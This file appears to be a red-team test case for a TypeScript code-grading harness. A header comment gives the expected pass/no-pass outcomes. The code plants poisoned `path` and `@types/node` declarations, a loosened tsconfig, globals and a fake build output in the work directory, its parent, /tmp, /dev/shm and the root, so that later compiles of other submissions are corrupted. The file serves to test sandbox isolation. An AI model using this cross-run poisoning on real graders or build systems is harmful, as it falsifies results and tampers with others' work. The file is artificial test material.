// redteam: task=ts_acc expect=nopass then=cases/typescript/victim_imports_path.ts:pass,cases/controls/ts_acc_wrong.ts:nopass  (plants what a later compile in this worker could read: `node_modules/path` and `node_modules/@types/node` declarations, a `tsconfig.json`, a global `.d.ts` and an `out/main.js` in the work dir, its parent, /tmp and /dev/shm; the victim imports `path`, which the compiler resolves through the nearest `node_modules` before node's own declarations)
const fs: any = require('fs');
const pathMod: any = require('path');
const poison = 'export declare function basename(p: number): number;\ndeclare global { const __polyeval: number; }\n';
const dirs: string[] = [process.cwd(), pathMod.dirname(process.cwd()), '/sandbox', '/tmp', '/dev/shm', '/'];
for (const d of dirs) {
  const put = (rel: string, text: string) => {
    try { fs.mkdirSync(pathMod.dirname(pathMod.join(d, rel)), { recursive: true }); fs.writeFileSync(pathMod.join(d, rel), text); } catch (_) {}
  };
  put('node_modules/path/index.d.ts', poison);
  put('node_modules/path/package.json', '{"name":"path","types":"index.d.ts"}');
  put('node_modules/@types/node/index.d.ts', 'declare var process: number;\n');
  put('tsconfig.json', '{"compilerOptions":{"noImplicitAny":false,"strict":false,"noEmit":true}}');
  put('globals.d.ts', 'declare const __polyeval: number;\n');
  put('out/main.js', 'console.log("planted");\n');
}
class Acc {
  add(a: number, b: number): number { return a - b; }
  greet(n: string): string { return 'hi ' + n; }
}
